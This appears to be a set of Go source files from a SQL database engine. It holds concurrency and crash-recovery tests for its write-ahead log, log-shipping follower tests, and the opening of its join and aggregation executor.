	// interleaving happened (tx swaps may discard racing direct writes
	// under last-commit-wins), the state recovered from the log must
	// equal the live state at close.
	finalVal := core.NewStringPolicy("final", &sanitize.UntrustedData{Source: "race-final"})
	if _, err := db.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", 999999, finalVal); err != nil {
		t.Fatal(err)
	}
	live := dumpEngine(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("recovered state diverges from live state after the concurrent run")
	}
	one, err := db2.QueryRaw("SELECT val FROM t WHERE id = ?", 999999)
	if err != nil || one.Len() != 1 {
		t.Fatalf("point lookup after restart: %d rows, %v", one.Len(), err)
	}
	if !one.Get(0, "val").Str.IsTainted() {
		t.Error("policy lost across the concurrent run + restart")
	}
}
