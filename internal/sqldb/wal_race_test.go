package sqldb

import (
	"fmt"
	"path/filepath"
	"reflect"
	"sync"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// TestWALConcurrentWritersReadersCompaction drives concurrent
// prepared-statement writers appending to the WAL, readers querying, and
// snapshot/compaction running mid-flight — the -race CI run watches the
// lock discipline (appends inside the engine's write critical section,
// compaction swapping file handles under the same lock). A final
// restart proves the log stayed coherent under the interleaving.
func TestWALConcurrentWritersReadersCompaction(t *testing.T) {
	path := filepath.Join(t.TempDir(), "race.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	db.SetWALGroupCommit(8)

	ins := db.MustPrepare("INSERT INTO t (id, val) VALUES (?, ?)")
	upd := db.MustPrepare("UPDATE t SET val = ? WHERE id = ?")
	sel := db.MustPrepare("SELECT id, val FROM t WHERE id = ?")

	const writers, perWriter, readers = 4, 40, 4
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				id := w*perWriter + i
				tainted := core.NewStringPolicy("payload", &sanitize.UntrustedData{Source: "race"})
				if _, err := ins.Exec(id, tainted); err != nil {
					t.Errorf("writer %d: %v", w, err)
					return
				}
				if i%4 == 0 {
					if _, err := upd.Exec("updated", id); err != nil {
						t.Errorf("writer %d update: %v", w, err)
						return
					}
				}
			}
		}(w)
	}
	for r := 0; r < readers; r++ {
		wg.Add(1)
		go func(r int) {
			defer wg.Done()
			for i := 0; i < perWriter*2; i++ {
				if _, err := sel.Query(i % (writers * perWriter)); err != nil {
					t.Errorf("reader %d: %v", r, err)
					return
				}
			}
		}(r)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 6; i++ {
			if err := db.Compact(); err != nil {
				t.Errorf("mid-flight compaction: %v", err)
				return
			}
		}
	}()
	// Transactions committing while direct writers append: the commit's
	// log handoff runs under the engine write lock, so the race detector
	// watches the contested path (and conflicted commits exercise the
	// rewrite-from-state branch).
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 10; i++ {
			tx := db.Begin()
			if _, err := tx.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", 100000+i, "tx"); err != nil {
				t.Errorf("tx writer: %v", err)
				return
			}
			if i%3 == 0 {
				if err := tx.Rollback(); err != nil {
					t.Errorf("tx rollback: %v", err)
				}
				continue
			}
			if err := tx.Commit(); err != nil {
				t.Errorf("tx commit: %v", err)
				return
			}
		}
	}()
	wg.Wait()
	// A quiesced write with a policy, then the real invariant: whatever
	// interleaving happened (commits merge row versions, so racing
	// direct writes and transactions all survive unless they conflicted
	// per row), the state recovered from the log must equal the live
	// state at close.
	finalVal := core.NewStringPolicy("final", &sanitize.UntrustedData{Source: "race-final"})
	if _, err := db.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", 999999, finalVal); err != nil {
		t.Fatal(err)
	}
	live := dumpEngine(db.Engine())
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("recovered state diverges from live state after the concurrent run")
	}
	one, err := db2.QueryRaw("SELECT val FROM t WHERE id = ?", 999999)
	if err != nil || one.Len() != 1 {
		t.Fatalf("point lookup after restart: %d rows, %v", one.Len(), err)
	}
	if !one.Get(0, "val").Str.IsTainted() {
		t.Error("policy lost across the concurrent run + restart")
	}
}

// indexStructures captures the *effective* contents of every ordered
// index: the (key, row id) pairs whose row is visible at the frontier
// under that key — exactly the pairs the visible-key traversal rule
// serves to queries. MVCC buckets are supersets (they may carry stale
// pairs awaiting vacuum, and a live engine and a replayed one reclaim
// on different schedules), so equality is defined on this canonical
// projection of the real structures, not on raw buckets. A pair the
// index lost shows up as a hole on one side; a pair wrongly served
// shows up as an extra.
func indexStructures(e *Engine) map[string]map[string]map[string][]uint64 {
	e.mu.RLock()
	defer e.mu.RUnlock()
	frontier := e.frontier.Load()
	out := make(map[string]map[string]map[string][]uint64)
	for name, t := range e.tables {
		if len(t.indexes) == 0 {
			continue
		}
		cols := make(map[string]map[string][]uint64, len(t.indexes))
		for ci, ix := range t.indexes {
			eff := make(map[string][]uint64)
			for k, bucket := range ix.m {
				for _, id := range bucket {
					en := t.byID[id]
					if en == nil {
						continue
					}
					v := en.visible(frontier)
					if v == nil || indexKey(v.vals[ci]) != k {
						continue
					}
					eff[k] = append(eff[k], id)
				}
			}
			cols[t.cols[ci].Name] = eff
		}
		out[name] = cols
	}
	return out
}

// TestWALConcurrentRangeScansIndexDDL races range/ORDER BY readers
// against writers doing index-moving UPDATEs while a DDL goroutine
// drops and recreates an index mid-flight — then restarts and requires
// the recovered engine to match the live one, down to the ordered-index
// internals: the structure incrementally maintained under concurrency
// must deep-equal the one WAL replay rebuilds from scratch.
func TestWALConcurrentRangeScansIndexDDL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "range-race.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	db.MustExec("CREATE TABLE r (id INT, name TEXT)")
	db.MustExec("CREATE INDEX ON r (id)")
	db.MustExec("CREATE INDEX ON r (name)")
	db.SetWALGroupCommit(8)
	for i := 0; i < 200; i++ {
		if _, err := db.QueryRaw("INSERT INTO r (id, name) VALUES (?, ?)", i,
			core.NewStringPolicy(fmt.Sprintf("n-%03d", i), &sanitize.UntrustedData{Source: "rr"})); err != nil {
			t.Fatal(err)
		}
	}

	const readers, writers, iters = 4, 2, 120
	var wg sync.WaitGroup
	for rd := 0; rd < readers; rd++ {
		wg.Add(1)
		go func(rd int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				lo := (i * 13) % 150
				queries := []string{
					fmt.Sprintf("SELECT id, name FROM r WHERE id >= %d AND id < %d ORDER BY id", lo, lo+25),
					fmt.Sprintf("SELECT name FROM r WHERE name LIKE 'n-0%d%%' ORDER BY name DESC", i%10),
					"SELECT id FROM r ORDER BY id DESC LIMIT 5",
				}
				if _, err := db.QueryRaw(queries[i%len(queries)]); err != nil {
					t.Errorf("reader %d: %v", rd, err)
					return
				}
			}
		}(rd)
	}
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				// Index-moving UPDATE: shifts rows between key buckets on
				// both indexed columns.
				id := (w*iters + i) % 200
				if _, err := db.QueryRaw("UPDATE r SET id = ?, name = ? WHERE id = ?",
					200+((id*7)%200), fmt.Sprintf("m-%03d", i), id); err != nil {
					t.Errorf("writer %d: %v", w, err)
					return
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() { // mid-flight CREATE/DROP INDEX churn
		defer wg.Done()
		for i := 0; i < 8; i++ {
			if _, err := db.QueryRaw("DROP INDEX ON r (name)"); err != nil {
				t.Errorf("drop index: %v", err)
				return
			}
			if _, err := db.QueryRaw("CREATE INDEX ON r (name)"); err != nil {
				t.Errorf("create index: %v", err)
				return
			}
		}
	}()
	wg.Wait()

	live := dumpEngine(db.Engine())
	liveIdx := indexStructures(db.Engine())
	liveRows, err := db.QueryRaw("SELECT id, name FROM r WHERE id >= 50 AND id < 320 ORDER BY id DESC")
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2 := openWALDB(t, rt, path)
	defer db2.Close()
	if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
		t.Error("recovered state diverges from live state")
	}
	if got := indexStructures(db2.Engine()); !reflect.DeepEqual(got, liveIdx) {
		t.Error("ordered indexes rebuilt by WAL replay diverge from the incrementally-maintained ones")
	}
	recRows, err := db2.QueryRaw("SELECT id, name FROM r WHERE id >= 50 AND id < 320 ORDER BY id DESC")
	if err != nil {
		t.Fatal(err)
	}
	requireSameResults(t, "post-restart range scan", recRows, liveRows)
}
