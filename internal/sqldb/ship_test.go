package sqldb

import (
	"errors"
	"fmt"
	"path/filepath"
	"testing"

	"resin/internal/core"
)

// shipPair opens a WAL-backed primary and an empty follower for direct
// shipping tests (no network in between).
func shipPair(t *testing.T) (primary *DB, follower *Follower, fpath string) {
	t.Helper()
	rt := core.NewRuntime()
	primary, err := OpenDB(rt, filepath.Join(t.TempDir(), "p.wal"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { primary.Close() }) //nolint:errcheck
	fpath = filepath.Join(t.TempDir(), "f.wal")
	fdb, err := OpenDB(rt, fpath)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fdb.Close() }) //nolint:errcheck
	follower, err = NewFollower(fdb)
	if err != nil {
		t.Fatal(err)
	}
	return primary, follower, fpath
}

// shipAll copies the primary's log bytes from the follower's received
// offset forward, in chunks of n bytes, exercising partial-frame
// buffering when n is small.
func shipAll(t *testing.T, p *DB, f *Follower, n int) {
	t.Helper()
	for {
		_, size, err := p.WALStatus()
		if err != nil {
			t.Fatal(err)
		}
		_, received := f.Offsets()
		if received >= size {
			return
		}
		data, _, err := p.ReadWAL(received, n)
		if err != nil {
			t.Fatal(err)
		}
		if len(data) == 0 {
			return
		}
		if err := f.Apply(received, data); err != nil {
			t.Fatal(err)
		}
	}
}

func TestFollowerAppliesShippedLog(t *testing.T) {
	p, f, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT, b TEXT)")
	for i := 0; i < 5; i++ {
		p.MustExec(fmt.Sprintf("INSERT INTO t (a, b) VALUES (%d, 'v%d')", i, i))
	}
	shipAll(t, p, f, 1<<20)

	if got, want := f.Frontier(), p.Frontier(); got != want {
		t.Fatalf("frontier %d, want %d", got, want)
	}
	res, err := f.DB().QueryRaw("SELECT a, b FROM t ORDER BY a")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 5 {
		t.Fatalf("rows: %d", res.Len())
	}
	applied, received := f.Offsets()
	_, size, _ := p.WALStatus()
	if applied != size || received != size {
		t.Fatalf("offsets applied=%d received=%d, primary size=%d", applied, received, size)
	}
}

// TestFollowerPartialFrames ships the log one byte at a time: every
// record arrives split across many Apply calls, and record and group
// boundaries never align with chunk boundaries.
func TestFollowerPartialFrames(t *testing.T) {
	p, f, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	tx := p.Begin()
	tx.MustExec("INSERT INTO t (a) VALUES (1)")
	tx.MustExec("INSERT INTO t (a) VALUES (2)")
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	shipAll(t, p, f, 1)

	if got, want := f.Frontier(), p.Frontier(); got != want {
		t.Fatalf("frontier %d, want %d", got, want)
	}
	res, err := f.DB().QueryRaw("SELECT a FROM t ORDER BY a")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 2 {
		t.Fatalf("rows: %d", res.Len())
	}
}

// TestFollowerUncommittedTailInvisible: a transaction group shipped
// without its commit marker is mirrored to the local log but not
// applied — the follower's frontier and visible rows exclude it.
func TestFollowerUncommittedTailInvisible(t *testing.T) {
	p, f, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	p.MustExec("INSERT INTO t (a) VALUES (1)")
	shipAll(t, p, f, 1<<20)
	want := f.Frontier()

	tx := p.Begin()
	tx.MustExec("INSERT INTO t (a) VALUES (2)")
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}

	// Ship all but the last byte: the commit group cannot complete.
	_, size, err := p.WALStatus()
	if err != nil {
		t.Fatal(err)
	}
	_, received := f.Offsets()
	data, _, err := p.ReadWAL(received, int(size-received)-1)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Apply(received, data); err != nil {
		t.Fatal(err)
	}
	applied, rec := f.Offsets()
	if rec <= applied {
		t.Fatalf("expected mirrored-but-unapplied tail, applied=%d received=%d", applied, rec)
	}
	if f.Frontier() != want {
		t.Fatalf("frontier moved on uncommitted tail: %d != %d", f.Frontier(), want)
	}
	res, _ := f.DB().QueryRaw("SELECT a FROM t")
	if res.Len() != 1 {
		t.Fatalf("uncommitted row visible: %d rows", res.Len())
	}

	// The final byte completes the group.
	shipAll(t, p, f, 1<<20)
	if f.Frontier() != p.Frontier() {
		t.Fatalf("frontier %d, want %d", f.Frontier(), p.Frontier())
	}
}

// TestFollowerGapIsBehind: applying past the received offset is the
// resumable typed error, and does not disturb follower state.
func TestFollowerGapIsBehind(t *testing.T) {
	p, f, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	_, received := f.Offsets()
	if err := f.Apply(received+100, []byte{0x01}); !errors.Is(err, ErrShipBehind) {
		t.Fatalf("gap apply: %v", err)
	}
	shipAll(t, p, f, 1<<20)
	if f.Frontier() != p.Frontier() {
		t.Fatal("follower unusable after rejected gap")
	}
}

// TestFollowerOverlapDeduped: re-shipping bytes the follower already
// has (a reconnect race) is harmless — the overlap is discarded.
func TestFollowerOverlapDeduped(t *testing.T) {
	p, f, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	p.MustExec("INSERT INTO t (a) VALUES (1)")
	shipAll(t, p, f, 1<<20)

	p.MustExec("INSERT INTO t (a) VALUES (2)")
	_, size, _ := p.WALStatus()
	// Re-ship from offset 0: everything before `received` is overlap.
	data, _, err := p.ReadWAL(0, int(size))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Apply(0, data); err != nil {
		t.Fatal(err)
	}
	if f.Frontier() != p.Frontier() {
		t.Fatalf("frontier %d, want %d", f.Frontier(), p.Frontier())
	}
	res, _ := f.DB().QueryRaw("SELECT a FROM t ORDER BY a")
	if res.Len() != 2 {
		t.Fatalf("rows after overlap: %d", res.Len())
	}
}

// TestFollowerCrashResume: close the follower DB mid-stream (with a
// mirrored-but-uncommitted tail on disk), reopen it, and resume
// shipping from the recovered offset. Recovery truncates the torn tail,
// so the resume point is exactly the applied prefix.
func TestFollowerCrashResume(t *testing.T) {
	rt := core.NewRuntime()
	p, err := OpenDB(rt, filepath.Join(t.TempDir(), "p.wal"))
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close() //nolint:errcheck
	fpath := filepath.Join(t.TempDir(), "f.wal")
	fdb, err := OpenDB(rt, fpath)
	if err != nil {
		t.Fatal(err)
	}
	f, err := NewFollower(fdb)
	if err != nil {
		t.Fatal(err)
	}

	p.MustExec("CREATE TABLE t (a INT)")
	for i := 0; i < 10; i++ {
		p.MustExec(fmt.Sprintf("INSERT INTO t (a) VALUES (%d)", i))
	}
	// Ship everything except the last 3 bytes, leaving a torn record.
	_, size, _ := p.WALStatus()
	data, _, err := p.ReadWAL(0, int(size)-3)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Apply(0, data); err != nil {
		t.Fatal(err)
	}
	appliedBefore, receivedBefore := f.Offsets()
	if receivedBefore <= appliedBefore {
		t.Fatal("test wants a torn tail on disk")
	}
	if err := fdb.Close(); err != nil {
		t.Fatal(err)
	}

	// "Restart": reopen the same log. Recovery truncates the torn tail.
	fdb2, err := OpenDB(rt, fpath)
	if err != nil {
		t.Fatal(err)
	}
	defer fdb2.Close() //nolint:errcheck
	f2, err := NewFollower(fdb2)
	if err != nil {
		t.Fatal(err)
	}
	applied2, received2 := f2.Offsets()
	if applied2 != appliedBefore || received2 != appliedBefore {
		t.Fatalf("resume offsets applied=%d received=%d, want both %d", applied2, received2, appliedBefore)
	}

	// Resume from the recovered offset and catch up fully.
	shipAll(t, p, f2, 1<<20)
	if f2.Frontier() != p.Frontier() {
		t.Fatalf("frontier %d, want %d", f2.Frontier(), p.Frontier())
	}
	res, err := fdb2.QueryRaw("SELECT a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 10 {
		t.Fatalf("rows after resume: %d", res.Len())
	}
}

// TestReadWALBehindTyped: reading past the end of the log is the typed
// resumable error.
func TestReadWALBehindTyped(t *testing.T) {
	p, _, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	_, size, _ := p.WALStatus()
	if _, _, err := p.ReadWAL(size+1, 10); !errors.Is(err, ErrShipBehind) {
		t.Fatalf("read past end: %v", err)
	}
	// Reading exactly at the end is an empty (heartbeat) read, not an error.
	data, _, err := p.ReadWAL(size, 10)
	if err != nil || len(data) != 0 {
		t.Fatalf("read at end: %v, %d bytes", err, len(data))
	}
}

// TestWALEpochBumpsOnCompaction: compaction rewrites the log, so every
// shipped offset is invalidated; the epoch counter is how ship streams
// notice.
func TestWALEpochBumpsOnCompaction(t *testing.T) {
	p, _, _ := shipPair(t)
	p.MustExec("CREATE TABLE t (a INT)")
	p.MustExec("INSERT INTO t (a) VALUES (1)")
	p.MustExec("DELETE FROM t")
	epoch0, _, err := p.WALStatus()
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Compact(); err != nil {
		t.Fatal(err)
	}
	epoch1, _, err := p.WALStatus()
	if err != nil {
		t.Fatal(err)
	}
	if epoch1 <= epoch0 {
		t.Fatalf("epoch %d -> %d; compaction must bump it", epoch0, epoch1)
	}
}

// TestReplayGroupFrontierEquality: a database recovered from a log has
// the same frontier as the live database that wrote it — group replay
// bumps the version once per transaction, exactly like live commit.
func TestReplayGroupFrontierEquality(t *testing.T) {
	rt := core.NewRuntime()
	path := filepath.Join(t.TempDir(), "w.wal")
	db, err := OpenDB(rt, path)
	if err != nil {
		t.Fatal(err)
	}
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t (a) VALUES (1)") // single-statement group
	tx := db.Begin()
	tx.MustExec("INSERT INTO t (a) VALUES (2)")
	tx.MustExec("INSERT INTO t (a) VALUES (3)") // multi-statement group: ONE bump
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	live := db.Frontier()
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}

	db2, err := OpenDB(rt, path)
	if err != nil {
		t.Fatal(err)
	}
	defer db2.Close() //nolint:errcheck
	if got := db2.Frontier(); got != live {
		t.Fatalf("recovered frontier %d != live %d", got, live)
	}
}

// TestNamedPlaceholders covers :name binding end to end: distinct names
// get distinct ordinals, repeats share one, args bind by name in any
// order, and misuse (mixing styles, unknown/duplicate/missing names) is
// rejected.
func TestNamedPlaceholders(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE u (name TEXT, age INT)")
	ins := db.MustPrepare("INSERT INTO u (name, age) VALUES (:name, :age)")
	if _, err := ins.Query(Named("age", 30), Named("name", "ada")); err != nil {
		t.Fatal(err)
	}
	if _, err := ins.Query(Named("name", "bob"), Named("age", 40)); err != nil {
		t.Fatal(err)
	}

	// A repeated name is one ordinal bound once.
	sel := db.MustPrepare("SELECT name FROM u WHERE age = :a OR age = :a")
	if sel.NumArgs() != 1 {
		t.Fatalf("repeated name ordinals: %d, want 1", sel.NumArgs())
	}
	res, err := sel.Query(Named("a", 30))
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("repeated-name rows: %d", res.Len())
	}

	if _, err := db.Prepare(core.NewString("SELECT name FROM u WHERE age = :a AND name = ?")); err == nil {
		t.Fatal("mixed ? and :name accepted")
	}
	if _, err := ins.Query(Named("name", "x"), Named("bogus", 1)); err == nil {
		t.Fatal("unknown name accepted")
	}
	if _, err := ins.Query(Named("name", "x"), Named("name", "y")); err == nil {
		t.Fatal("duplicate name accepted")
	}
	if _, err := ins.Query(Named("name", "x")); err == nil {
		t.Fatal("missing name accepted")
	}
	if _, err := ins.Query(Named("name", "x"), 30); err == nil {
		t.Fatal("mixed named and positional args accepted")
	}
	if _, err := db.QueryRaw("SELECT name FROM u WHERE age = ?", Named("a", 30)); err == nil {
		t.Fatal("named arg outside prepared execution accepted")
	}
}
