package sqldb

import (
	"fmt"
	"sort"
	"strings"
)

// The complex-SELECT executor: INNER/LEFT JOIN and GROUP BY aggregation
// (COUNT/SUM/MIN/MAX, plus the policy-union carrier PUNION). It runs in
// the same two phases as single-table selectAt — resolve/validate and
// copy candidate state under the read lock, then evaluate lock-free
// against immutable row versions at one snapshot — so joins observe
// exactly the isolation single-table SELECTs do: one frontier, no torn
// reads, concurrent writers never perturb an in-flight query.
//
// Two join strategies produce identical results by construction:
//
//   - Hash join: build a map over the smaller side keyed by indexKey —
//     the ordered indexes' equality-bucket canonicalization, proven
//     equivalent to valueCompare for non-NULL values — and probe with
//     the larger side. NULL keys never enter the build map, matching
//     SQL's NULL = NULL → false.
//   - Nested loop: compare every pair with the same valueCompare the
//     WHERE evaluator uses. Always correct, never fast; Select.ForceLoop
//     selects it, and the differential harness uses it as the oracle.
//
// Both emit pairs in (left row, right row) scan order, so strategy
// choice can change only cost — never rows, order, or the shadow policy
// columns riding along (join_property_test.go pins this).

// joinScope resolves column references over concatenated left++right
// rows: left columns at their positions, right columns offset by the
// left width. Unqualified names must be unique across the two tables;
// the ambiguity error names both candidates (the ErrNoColumn contract
// extended to joins).
type joinScope struct {
	lt, rt *table
}

func (js *joinScope) width() int { return len(js.lt.cols) + len(js.rt.cols) }

func (js *joinScope) resolveCol(name string) (int, error) {
	if qual, col, ok := splitQualifier(name); ok {
		switch {
		case strings.EqualFold(qual, js.lt.name):
			if ci := js.lt.colIndex(col); ci >= 0 {
				return ci, nil
			}
			return -1, fmt.Errorf("%w: %s.%s", ErrNoColumn, js.lt.name, col)
		case strings.EqualFold(qual, js.rt.name):
			if ci := js.rt.colIndex(col); ci >= 0 {
				return len(js.lt.cols) + ci, nil
			}
			return -1, fmt.Errorf("%w: %s.%s", ErrNoColumn, js.rt.name, col)
		default:
			return -1, fmt.Errorf("%w: %s (table %s is not in this query)", ErrNoColumn, name, qual)
		}
	}
	li, ri := js.lt.colIndex(name), js.rt.colIndex(name)
	switch {
	case li >= 0 && ri >= 0:
		return -1, fmt.Errorf("%w: %s is ambiguous (candidates %s.%s, %s.%s)",
			ErrNoColumn, name, js.lt.name, name, js.rt.name, name)
	case li >= 0:
		return li, nil
	case ri >= 0:
		return len(js.lt.cols) + ri, nil
	default:
		return -1, fmt.Errorf("%w: %s.%s, %s.%s", ErrNoColumn, js.lt.name, name, js.rt.name, name)
	}
}

// colDef returns the column definition at a combined-row position.
func (js *joinScope) colDef(ci int) ColumnDef {
	if ci < len(js.lt.cols) {
		return js.lt.cols[ci]
	}
	return js.rt.cols[ci-len(js.lt.cols)]
}

// outColName names a projected combined-row column: qualified when the
// reference was (or star expansion, which qualifies everything), plain
// otherwise.
func (js *joinScope) outColName(ref string, ci int) string {
	if _, _, ok := splitQualifier(ref); ok {
		if ci < len(js.lt.cols) {
			return js.lt.name + "." + js.lt.cols[ci].Name
		}
		return js.rt.name + "." + js.rt.cols[ci-len(js.lt.cols)].Name
	}
	return js.colDef(ci).Name
}

// chooseBuildSide is the cardinality-aware cost hook of the hash join:
// it decides which input becomes the build side (hashed) and which
// probes. INNER joins build the smaller side — the build map is the only
// O(n) memory the join allocates, and probe cost is flat either way.
// LEFT joins must enumerate every left row to emit unmatched ones, so
// the right side always builds regardless of cardinality. Returns true
// to build the left input. Kept pure (counts in, decision out) so the
// planner test can pin it without constructing engines.
func chooseBuildSide(leftRows, rightRows int, joinType string) bool {
	if joinType == "LEFT" {
		return false
	}
	return leftRows < rightRows
}

// aggState accumulates one aggregate item over one group.
type aggState struct {
	count  int64
	sum    int64
	best   value // MIN/MAX candidate
	any    bool  // saw a non-NULL input
	punion map[string]bool
}

func (a *aggState) observe(agg string, v value) {
	if v.null {
		return // every aggregate skips NULL inputs
	}
	a.any = true
	switch agg {
	case "COUNT":
		a.count++
	case "SUM":
		a.sum += v.i
	case "MIN":
		if a.count == 0 || valueLess(v, a.best) {
			a.best = v
		}
		a.count++
	case "MAX":
		if a.count == 0 || valueLess(a.best, v) {
			a.best = v
		}
		a.count++
	case "PUNION":
		if a.punion == nil {
			a.punion = make(map[string]bool)
		}
		a.punion[v.String()] = true
	}
}

// result renders the aggregate's output cell. Empty (or all-NULL) groups
// yield NULL for everything except COUNT, which yields 0.
func (a *aggState) result(agg string) value {
	switch agg {
	case "COUNT":
		return intValue(a.count)
	case "SUM":
		if !a.any {
			return nullValue()
		}
		return intValue(a.sum)
	case "MIN", "MAX":
		if !a.any {
			return nullValue()
		}
		return a.best
	case "PUNION":
		if len(a.punion) == 0 {
			return nullValue()
		}
		parts := make([]string, 0, len(a.punion))
		for p := range a.punion {
			parts = append(parts, p)
		}
		sort.Strings(parts)
		return textValue(strings.Join(parts, punionSep))
	}
	return nullValue()
}

// punionSep joins the distinct values of a PUNION cell. Policy
// annotations are JSON (control bytes always escaped), so 0x1f cannot
// occur inside one and splitting is unambiguous.
const punionSep = "\x1f"

// complexItem is one validated projection item: its combined-row column
// (or -1 for COUNT(*)) plus the output column name.
type complexItem struct {
	agg  string
	ci   int
	name string
}

// selectComplexAt executes a SELECT with a JOIN and/or aggregation.
// lt/rt may be pre-resolved by a speculative-engine redirect (the
// pointers stay valid even if the base dropped the names); nil means
// resolve from e's catalog.
func (e *Engine) selectComplexAt(lt, rt *table, s *Select, pinned *uint64) (*rawResult, error) {
	e.mu.RLock()
	locked := true
	unlock := func() {
		if locked {
			locked = false
			e.mu.RUnlock()
		}
	}
	defer unlock()

	if lt == nil {
		var ok bool
		lt, ok = e.tables[strings.ToLower(s.Table)]
		if !ok {
			return nil, fmt.Errorf("%w: %s", ErrNoTable, s.Table)
		}
	}
	var sc scope = lt
	var js *joinScope
	var lon, ron int // ON columns: left position, right position
	if s.Join != nil {
		if rt == nil {
			var ok bool
			rt, ok = e.tables[strings.ToLower(s.Join.Table)]
			if !ok {
				return nil, fmt.Errorf("%w: %s", ErrNoTable, s.Join.Table)
			}
		}
		if lt == rt {
			return nil, fmt.Errorf("sqldb: self-join of table %s is not supported", lt.name)
		}
		if s.Join.Type != "INNER" && s.Join.Type != "LEFT" {
			return nil, fmt.Errorf("sqldb: unsupported join type %q", s.Join.Type)
		}
		js = &joinScope{lt: lt, rt: rt}
		sc = js
		a, err := js.resolveCol(s.Join.L)
		if err != nil {
			return nil, err
		}
		b, err := js.resolveCol(s.Join.R)
		if err != nil {
			return nil, err
		}
		if (a < len(lt.cols)) == (b < len(lt.cols)) {
			return nil, fmt.Errorf("sqldb: ON %s = %s must join one column from each table", s.Join.L, s.Join.R)
		}
		lon, ron = a, b
		if lon > ron {
			lon, ron = ron, lon
		}
		ron -= len(lt.cols)
	}

	grouped := s.grouped()

	// Resolve GROUP BY columns first; grouped plain items must reference
	// one of them (value well-defined per group), which is checked by
	// resolved position — any spelling of the same column qualifies.
	groupCIs := make([]int, 0, len(s.GroupBy))
	isGroupCol := map[int]bool{}
	for _, g := range s.GroupBy {
		ci, err := sc.resolveCol(g)
		if err != nil {
			return nil, err
		}
		groupCIs = append(groupCIs, ci)
		isGroupCol[ci] = true
	}

	var items []complexItem
	if s.Star {
		if grouped {
			return nil, fmt.Errorf("sqldb: SELECT * cannot be combined with GROUP BY or aggregates")
		}
		for i, c := range lt.cols {
			items = append(items, complexItem{ci: i, name: lt.name + "." + c.Name})
		}
		for i, c := range rt.cols {
			items = append(items, complexItem{ci: len(lt.cols) + i, name: rt.name + "." + c.Name})
		}
	} else {
		for _, it := range s.Items {
			switch {
			case it.Agg != "" && it.Star: // COUNT(*)
				items = append(items, complexItem{agg: it.Agg, ci: -1, name: it.Agg + "(*)"})
			case it.Agg != "":
				ci, err := sc.resolveCol(it.Col)
				if err != nil {
					return nil, err
				}
				var def ColumnDef
				if js != nil {
					def = js.colDef(ci)
				} else {
					def = lt.cols[ci]
				}
				if it.Agg == "SUM" && def.Type != ColInt {
					return nil, fmt.Errorf("%w: SUM(%s) requires an INT column", ErrTypeMismatch, it.Col)
				}
				var name string
				if js != nil {
					name = it.Agg + "(" + js.outColName(it.Col, ci) + ")"
				} else {
					name = it.Agg + "(" + lt.outColName(it.Col, ci) + ")"
				}
				items = append(items, complexItem{agg: it.Agg, ci: ci, name: name})
			default:
				ci, err := sc.resolveCol(it.Col)
				if err != nil {
					return nil, err
				}
				if grouped && !isGroupCol[ci] {
					return nil, fmt.Errorf("sqldb: column %s must appear in GROUP BY or inside an aggregate", it.Col)
				}
				var name string
				if js != nil {
					name = js.outColName(it.Col, ci)
				} else {
					name = lt.outColName(it.Col, ci)
				}
				items = append(items, complexItem{agg: "", ci: ci, name: name})
			}
		}
	}

	if err := validateExpr(s.Where, sc); err != nil {
		return nil, err
	}

	orderCI := -1
	if s.OrderBy != "" {
		ci, err := sc.resolveCol(s.OrderBy)
		if err != nil {
			return nil, err
		}
		if grouped && !isGroupCol[ci] {
			return nil, fmt.Errorf("sqldb: ORDER BY %s must name a GROUP BY column in an aggregate query", s.OrderBy)
		}
		orderCI = ci
	}

	var snap uint64
	if pinned != nil {
		snap = *pinned
	} else {
		snap = e.acquireSnap()
		defer e.releaseSnap(snap)
	}

